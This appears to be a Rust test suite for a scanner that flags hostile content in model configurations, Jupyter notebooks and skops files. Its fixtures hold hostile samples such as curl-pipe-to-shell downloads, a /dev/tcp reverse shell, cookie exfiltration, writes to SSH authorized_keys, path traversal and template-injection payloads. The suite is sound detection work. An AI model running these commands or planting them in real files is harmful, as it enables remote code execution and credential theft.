use bastide_types::Assessment;
use proptest::prelude::*;

use crate::{Format, Limits, Report, scan};

fn judge(text: &str, name: &str) -> Report {
    scan(&text.as_bytes(), name, &Limits::default())
}

fn ids(text: &str) -> Vec<&'static str> {
    judge(text, "config.json").findings.iter().map(|finding| finding.rule.id).collect()
}

#[test]
fn what_tools_run_of_a_configuration_is_judged() {
    for (text, expected) in [
        (r#"{"scripts": {"build": "tsc -p .", "postinstall": "node setup.js"}}"#, Assessment::Clean),
        (r#"{"scripts": {"anything": "curl -s http://198.51.100.7/x | sh"}}"#, Assessment::Malicious),
        (r#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}}"#, Assessment::Clean),
        (
            r#"{"x": {"command": "sh", "args": ["-c", "wget -qO- http://198.51.100.7/x | sh"]}}"#,
            Assessment::Malicious,
        ),
        (
            "{\n// tasks\n\"tasks\": [{\"command\": \"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\",},],\n}",
            Assessment::Malicious,
        ),
        (
            "{\n  // tabs\n  \"editor.tabSize\": 2, /* \" */\n  \"url\": \"http://example.org\",\n}",
            Assessment::Clean,
        ),
        (
            r#"{"imports": ["$import os"], "device": "$torch.device('cpu')", "net": {"_target_": "UNet"}}"#,
            Assessment::Clean,
        ),
        (r#"{"x": "$__import__('os').system('echo harmless')"}"#, Assessment::Malicious),
        (
            r#"{"a": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
            Assessment::Clean,
        ),
        (
            r#"{"kwargs": {"text": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
            Assessment::Malicious,
        ),
        (r#"{"itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}"#, Assessment::Clean),
        (r#"{"itemInfoEntries": {"A": {"path": "../../etc/hosts"}}}"#, Assessment::Malicious),
        (
            r#"{"graph": {"initializer": [{"externalData": [{"key": "location", "value": "../w"}]}]}}"#,
            Assessment::Malicious,
        ),
    ] {
        let report = judge(text, "settings.json");
        assert_eq!(report.assessment(), expected, "{text}: {:?}", report.findings);
    }
    let model =
        "artifact_path: m\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ";
    assert_eq!(judge(&format!("{model}model.pkl\n"), "MLmodel").assessment(), Assessment::Clean);
    assert_eq!(judge(&format!("{model}../../x\n"), "MLmodel").assessment(), Assessment::Malicious);
    let tracked = |path: &str| judge(&format!("outs:\n- md5: 00\n  path: {path}\n"), "data.dvc").assessment();
    assert_eq!(tracked("data.csv"), Assessment::Clean);
    assert_eq!(tracked("/root/.ssh/authorized_keys"), Assessment::Malicious);
}

#[test]
fn ordinary_configurations_are_clean() {
    for text in [
        r#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "_name_or_path": "/home/me/llama", "torch_dtype": "bfloat16", "transformers_version": "4.51.0", "rope_scaling": null}"#,
        r#"{"bos_token_id": 1, "do_sample": true, "eos_token_id": [2, 3], "temperature": 0.6}"#,
        r#"{"base_model_name_or_path": "meta-llama/Llama-3.1-8B", "auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}, "modules_to_save": null, "peft_type": "LORA"}"#,
        r#"{"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "sub/model-00002-of-00002.safetensors"}}"#,
        r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"]}"#,
        r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"#,
        r#"{"name": "pkg", "scripts": {"build": "tsc && node dist/x.js"}, "dependencies": {}}"#,
        r#"{"description": "Never call os.system('x') or eval(x); see __import__('os').", "model_type": "x"}"#,
        r#"{"nodes": [{"op": "FullyConnected", "name": "fc", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}"#,
    ] {
        assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
    }
    let report =
        judge(r#"{"architectures": ["LlamaForCausalLM"], "transformers_version": "4.51.0"}"#, "config.json");
    assert_eq!(report.facts.properties["architecture"], "LlamaForCausalLM");
    assert_eq!(report.facts.libraries[0].version, "4.51.0");
}

#[test]
fn objects_that_libraries_build_from_names_are_judged() {
    for (text, id) in [
        (
            r#"{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "echo harmless"}}"#,
            "config.target",
        ),
        (
            r#"{"a": {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "tools", "PythonREPLTool"], "kwargs": {}}}"#,
            "config.target",
        ),
        (
            r#"{"lc": 1, "type": "constructor", "id": ["mine", "Chain"], "kwargs": {}}"#,
            "config.unknown-target",
        ),
        (r#"{"_type": "llm_bash_chain", "prompt": {}}"#, "config.target"),
        (r#"{"_type": "prompt", "template": "{x.__class__.__init__}"}"#, "template.injection"),
        (r#"{"_type": "prompt", "template": "{x[__class__]}"}"#, "template.injection"),
        (r#"{"_type": "prompt", "template_path": "/etc/passwd"}"#, "index.traversal"),
        (
            r#"{"py/object": "__main__.X", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo harmless"]}]}"#,
            "config.target",
        ),
        (r#"{"py/type": "subprocess.Popen"}"#, "config.target"),
        (
            r#"{"tokenizer_class": "X", "chat_template": {"default": "{{ x.__class__ }}"}}"#,
            "template.injection",
        ),
        (r#"{"model_type": "x", "prompt": "{{ x.__class__ }}"}"#, "template.injection"),
        (
            r#"{"_class_name": "X", "_diffusers_version": "0.30.0", "unet": ["../../x", "Y"]}"#,
            "index.traversal",
        ),
        (r#"{"a": !!python/object/apply:os.system ["echo harmless"]}"#, "yaml.object"),
    ] {
        assert!(ids(text).contains(&id), "{text}: {:?}", ids(text));
    }
    for text in [
        r#"{"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Hi {name}, {user.first} {{x}}", "openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}"#,
        r#"{"py/object": "sklearn.svm.SVC", "c": 1}"#,
    ] {
        assert_eq!(ids(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn configurations_say_what_the_model_is() {
    let report = judge(
        r#"{"_name_or_path": "me/model", "model_type": "llama", "license": "mit", "architectures": ["LlamaForCausalLM"],
            "quantization_config": {"quant_method": "gptq"}, "__version__": {"sentence_transformers": "3.0.1"}}"#,
        "config.json",
    );
    let properties: Vec<_> =
        report.facts.properties.iter().map(|(key, value)| (*key, value.as_str())).collect();
    assert_eq!(
        properties,
        [
            ("architecture", "LlamaForCausalLM"),
            ("licence", "mit"),
            ("model_type", "llama"),
            ("name", "me/model"),
            ("quantisation", "gptq"),
        ]
    );
    assert_eq!(report.facts.libraries[0].name, "sentence-transformers");
    let adapter = judge(
        r#"{"base_model_name_or_path": "me/base", "peft_type": "LORA", "task_type": "CAUSAL_LM", "peft_version": "0.15.0"}"#,
        "adapter_config.json",
    );
    let property = |key| adapter.facts.properties.get(key).map(String::as_str);
    assert_eq!(
        (property("base_model"), property("adapter"), property("task")),
        (Some("me/base"), Some("LORA"), Some("CAUSAL_LM"))
    );
    assert_eq!(adapter.facts.libraries[0].name, "peft");
}

#[test]
fn what_makes_a_loader_act_is_seen() {
    for (text, id) in [
        (r#"{"auto_map": {"AutoModel": "modeling_x.Model"}}"#, "config.auto-map"),
        (r#"{"auto_map": {"AutoTokenizer": ["other/repo--tokenization.Tok", null]}}"#, "config.remote-code"),
        (r#"{"custom_pipelines": {"x": {"impl": "other/repo--pipeline.P"}}}"#, "config.remote-code"),
        (
            r#"{"_name_or_path": "me/model", "auto_map": {"AutoModel": "other/repo--modeling.M"}}"#,
            "config.remote-code",
        ),
        (
            r#"{"_name_or_path": "Me/model", "auto_map": {"AutoModel": "me/code--modeling.M"}}"#,
            "config.publishers-code",
        ),
        (
            r#"{"model_type": "acmebert", "auto_map": {"AutoModel": "acme-labs/code--modeling.AcmeBert"}}"#,
            "config.publishers-code",
        ),
        (r#"{"auto_map": {"AutoModel": "../../x.Model"}}"#, "index.traversal"),
        (r#"{"weight_map": {"a": "../../../etc/hostname"}}"#, "index.traversal"),
        (r#"{"weight_map": {"a": "C:\\x.safetensors"}}"#, "index.traversal"),
        (r#"{"weight_map": {"a": "http://198.51.100.7/x"}}"#, "index.traversal"),
        (r#"{"weightsManifest": [{"paths": ["%2e%2e/x.bin"]}]}"#, "index.traversal"),
        (r#"{"model_type": "x", "init": "__import__('os').system('echo harmless')"}"#, "config.code"),
        (r#"{"x": {"init": "__import__('os').system('echo harmless')"}}"#, "config.code-in-data"),
        (
            r#"{"model_type": "x", "init": "\u005f\u005fimport\u005f\u005f('os').system('echo harmless')"}"#,
            "config.code",
        ),
        (r#"{"trainer": {"_target_": "subprocess.run"}}"#, "config.target"),
        (r#"{"trainer": {"_target_": "mine.Thing"}}"#, "config.unknown-target"),
        (r#"{"base_model_name_or_path": "/root/.ssh", "peft_type": "LORA"}"#, "config.host-file"),
        (r#"{"base_model_name_or_path": "http://198.51.100.7/m", "peft_type": "LORA"}"#, "config.path"),
        (r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#, "config.target"),
        (r#"[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]"#, "config.target"),
        (r#"{"_class_name": ["pipeline", "Mine"], "_diffusers_version": "0.3"}"#, "config.auto-map"),
        (r#"{"model_type": "x", "model_type": "y"}"#, "json.duplicate-key"),
        (r#"{"chat_template": "{{ ''.__class__ }}"}"#, "template.injection"),
        (
            r#"{"chat_template": [{"name": "default", "template": "{{ ''.__class__ }}"}]}"#,
            "template.injection",
        ),
        (r#"{"nodes": [{"op": "Custom", "attrs": {"op_type": "x"}}]}"#, "config.custom-operator"),
        (r#"{"nodes": [{"op": "_Native", "attrs": {"info": "0x7f00"}}]}"#, "config.pointer"),
    ] {
        assert!(ids(text).contains(&id), "{text}: {:?}", ids(text));
    }
}

#[test]
fn credentials_are_named_but_never_shown() {
    let secret = format!("hf_{}", "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3x");
    let report = judge(&format!(r#"{{"model_type": "x", "token": "{secret}"}}"#), "config.json");
    assert_eq!(report.findings[0].rule.id, "config.credential");
    assert!(!report.findings.iter().any(|finding| finding.message.contains(&secret)));
}

#[test]
fn other_encodings_and_records_are_read() {
    let utf16: Vec<u8> = "\u{feff}{\"auto_map\": {\"AutoModel\": \"m.M\"}}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert_eq!(scan(&utf16, "config.json", &Limits::default()).findings[0].rule.id, "config.auto-map");
    let lines = judge("{\"prompt\": \"a\"}\n{\"prompt\": \"eval(x)\"}\n", "train.jsonl");
    assert_eq!((lines.format, lines.assessment()), (Format::Json, Assessment::Clean));
    assert_eq!(judge("[1] See the paper.\n", "REFERENCES").format, Format::Text);
    assert_eq!(judge("{\"a\": [1, 2", "config.json").assessment(), Assessment::Unfinished);
}

fn notebook(source: &str) -> Report {
    let cell = serde_json::json!({"cell_type": "code", "source": [source], "outputs": [], "metadata": {}});
    judge(&serde_json::json!({"cells": [cell], "nbformat": 4, "metadata": {}}).to_string(), "a.ipynb")
}

#[test]
fn notebooks_are_judged_by_what_their_cells_run() {
    for source in [
        "!pip install numpy torch==2.1\n%matplotlib inline\nimport numpy as np",
        "!pip install git+https://github.com/huggingface/transformers",
        "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
        "import os\nos.system('nvidia-smi')",
        "%%bash\nls -la\ngit clone https://example.org/x",
        "model.eval()\nx = torch.load('model.pt')",
    ] {
        let report = notebook(source);
        assert_eq!(
            (report.format, report.assessment()),
            (Format::Notebook, Assessment::Clean),
            "{source}: {:?}",
            report.findings
        );
    }
    for (source, id) in [
        ("!curl http://198.51.100.7/x | sh", "notebook.command"),
        ("%%bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "notebook.command"),
        ("import base64\nexec(base64.b64decode('cGFzcw=='))", "notebook.command"),
        (
            "import os; os.system('wget http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x')",
            "notebook.command",
        ),
        ("pickle.loads(requests.get('http://198.51.100.7/x').content)", "notebook.command"),
        ("open('/root/.ssh/authorized_keys', 'a').write('key')", "notebook.command"),
        ("!curl -fsSL https://ollama.com/install.sh | sh", "notebook.install"),
        ("!pip install http://198.51.100.7/x.whl", "notebook.install"),
    ] {
        assert!(notebook(source).findings.iter().any(|finding| finding.rule.id == id), "{source}");
    }
}

#[test]
fn cells_of_a_notebook_are_one_program() {
    let cells = ["import os as o", "run = o.system", "run('echo aWQ= | base64 -d | sh')"];
    let cells =
        cells.map(|source| serde_json::json!({"cell_type": "code", "source": [source], "outputs": []}));
    let report =
        judge(&serde_json::json!({"cells": cells, "nbformat": 4, "metadata": {}}).to_string(), "a.ipynb");
    let found = report.findings.iter().find(|finding| finding.rule.id == "code.hostile-command");
    assert!(
        found.is_some_and(|finding| finding.message.starts_with("cell 2, line 1: ")),
        "{:?}",
        report.findings
    );
}

#[test]
fn a_text_that_commands_the_kernel_is_hostile() {
    let text = "<img src=x onerror=\"Jupyter.notebook.kernel.execute('!id')\">";
    let cell = serde_json::json!({"cell_type": "markdown", "source": text, "metadata": {}});
    let report =
        judge(&serde_json::json!({"cells": [cell], "nbformat": 4, "metadata": {}}).to_string(), "a.ipynb");
    assert!(report.findings.iter().any(|finding| finding.rule.id == "notebook.hostile-output"));
}

#[test]
fn scripts_in_outputs_are_seen() {
    let with = |html: &str| {
        let output = serde_json::json!({"output_type": "display_data", "data": {"text/html": [html]}});
        let cell = serde_json::json!({"cell_type": "code", "source": [], "outputs": [output]});
        judge(&serde_json::json!({"cells": [cell], "nbformat": 4}).to_string(), "a.ipynb").assessment()
    };
    assert_eq!(with("<table><tr><td>1</td></tr></table>"), Assessment::Clean);
    assert_eq!(with("<script>Plotly.newPlot('x')</script>"), Assessment::Clean);
    assert_eq!(with("<script>alert(1)</script>"), Assessment::Review);
    assert_eq!(with("<script>fetch('//x/' + document.cookie)</script>"), Assessment::Malicious);
}

fn skops(node: &str) -> Vec<&'static str> {
    let text = format!(
        r#"{{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {{"a": {node}}}, "protocol": 2, "_skops_version": "0.11.0"}}"#
    );
    let report = judge(&text, "schema.json");
    assert_eq!(report.format, Format::Skops);
    report.findings.iter().map(|finding| finding.rule.id).collect()
}

#[test]
fn skops_types_are_judged() {
    for node in [
        r#"{"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode", "content": {}}"#,
        r#"{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "1.npy"}"#,
        r#"{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"x\""}"#,
    ] {
        assert!(skops(node).is_empty(), "{node}");
    }
    for (node, id) in [
        (
            r#"{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}"#,
            "skops.dangerous-type",
        ),
        (
            r#"{"__class__": "function", "__module__": "numpy", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "eval"}}"#,
            "skops.dangerous-type",
        ),
        (
            r#"{"__class__": "call", "__module__": "sklearn", "__loader__": "OperatorFuncNode", "attrs": {}}"#,
            "skops.loader-mismatch",
        ),
        (r#"{"__class__": "Mine", "__module__": "mine", "__loader__": "ObjectNode"}"#, "skops.unknown-type"),
    ] {
        assert!(skops(node).contains(&id), "{node}: {:?}", skops(node));
    }
}

proptest! {
    #[test]
    fn mutated_configurations_never_panic(at in 0..200_usize, new in "[\\[\\]{}\",:a_\\\\]") {
        let text = r#"{"auto_map": {"A": ["a--b.C"]}, "chat_template": [{"name": "d", "template": "{{ x[0:1]|attr('a') }}"}], "weight_map": {"a": "b"}, "cells": [{"cell_type": "code", "source": ["!ls"], "outputs": []}]}"#;
        let mut text = text.to_owned();
        let at = at % text.len();
        text.replace_range(at..=at, &new);
        let _ = judge(&text, "config.json");
        text.truncate(at);
        let _ = judge(&text, "config.json");
    }
}
